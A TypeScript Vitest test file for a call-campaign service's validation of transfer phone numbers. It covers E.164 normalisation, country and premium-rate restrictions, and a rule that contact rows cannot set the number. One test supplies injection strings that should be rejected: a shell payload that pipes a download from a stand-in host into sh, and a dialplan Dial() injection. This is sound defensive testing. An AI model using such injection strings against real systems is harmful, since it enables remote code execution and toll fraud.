import { describe, expect, it } from 'vitest';
import { campaignSettings, parseCampaignConfig } from '../../api/campaigns/campaign-config';
import { ProblemError } from '../../api/common/problem';
import { transferRefusal, transferTarget } from '../../domain/phone';
import { agentVariables } from '../../workflows/call-flow';
import type { CallWorkflowInput } from '../../workflows/call.messages';

const config = (extra: Record<string, unknown>) => ({ name: 'x', callType: 'BILLING_REMINDER', ...extra });

function refusal(extra: Record<string, unknown>): string {
  try {
    parseCampaignConfig(config(extra));
  } catch (error) {
    expect(error).toBeInstanceOf(ProblemError);
    const { code, extra: details } = error as ProblemError;
    expect(code).toBe('INVALID_CAMPAIGN_CONFIG');
    const [first] = (details as { errors: { path: string; message: string }[] }).errors;
    expect(first?.path).toBe('transferNumber');
    return first!.message;
  }
  throw new Error('accepted');
}

describe('a campaign transfer number (issue 20, item 3)', () => {
  it('is stored in E.164 however it was typed', () => {
    expect(parseCampaignConfig(config({ transferNumber: '0212 555 00 00' })).transferNumber).toBe('+902125550000');
    expect(parseCampaignConfig(config({ transferNumber: '+90 532 123 45 67' })).transferNumber).toBe('+905321234567');
  });

  it('refuses what would reach a shell or a dialplan as anything but digits', () => {
    expect(refusal({ transferNumber: "1'; curl evil.example | sh; '" })).toMatch(/not a (valid )?phone number/);
    expect(refusal({ transferNumber: '+905321234567&Dial(PJSIP/900@trunk)' })).toMatch(/not a valid phone number/);
    expect(refusal({ transferNumber: 'abc' })).toMatch(/not a phone number/);
  });

  it('refuses another country unless the campaign allows it, and premium-rate numbers', () => {
    expect(refusal({ transferNumber: '+14155550100' })).toMatch(/country/);
    expect(parseCampaignConfig(config({ transferNumber: '+1 212 555 0100', transferCountries: ['US'] })).transferNumber).toBe('+12125550100');
    expect(transferTarget('0900 123 45 67', 'TR')).toEqual({ ok: false, reason: 'TYPE_NOT_ALLOWED' });
    expect(transferTarget('+44 9098 790 000', 'TR', ['GB'])).toEqual({ ok: false, reason: 'TYPE_NOT_ALLOWED' });
  });

  it('is never taken from a contact row', () => {
    const input = {
      variables: { amount: '100 TL', transfer_number: '+14155550100' },
      name: 'Ayşe',
    } as unknown as CallWorkflowInput;
    expect(agentVariables(input)).toEqual({ amount: '100 TL', name: 'Ayşe' });
    expect(agentVariables({ ...input, transferNumber: '+902125550000' })).toEqual({
      amount: '100 TL',
      name: 'Ayşe',
      transfer_number: '+902125550000',
    });
  });
});

describe("the workflow's own check of the number at transfer time (issue 24 item 4)", () => {
  it('passes the E.164 number of an allowed country and type', () => {
    expect(transferRefusal('+902125550000', ['TR'])).toBeNull();
    expect(transferRefusal('+12125550100', ['TR', 'US'])).toBeNull();
  });

  it('refuses another country, an empty list, a number not as stored, an invalid or premium-rate one', () => {
    expect(transferRefusal('+12125550100', ['TR'])).toBe('COUNTRY_NOT_ALLOWED');
    expect(transferRefusal('+902125550000', [])).toBe('COUNTRY_NOT_ALLOWED');
    expect(transferRefusal('0212 555 00 00', ['TR'])).toBe('NOT_E164');
    expect(transferRefusal('+905321234567&Dial(PJSIP/900@trunk)', ['TR'])).toBe('NOT_E164');
    expect(transferRefusal('+90212', ['TR'])).toBe('NOT_E164');
    expect(transferRefusal('+9021255500001', ['TR'])).toBe('INVALID');
    expect(transferRefusal('+909001234567', ['TR'])).toBe('TYPE_NOT_ALLOWED');
  });

  it("reaches the workflow with the campaign's allowed countries: its own and the ones it names", () => {
    const settings = campaignSettings(
      parseCampaignConfig(config({ transferNumber: '+1 212 555 0100', transferCountries: ['US'], defaultCountry: 'TR' })),
    );
    expect(settings).toMatchObject({ transferNumber: '+12125550100', transferCountries: ['TR', 'US'] });
    expect(campaignSettings(parseCampaignConfig(config({}))).transferCountries).toBeUndefined();
  });
});
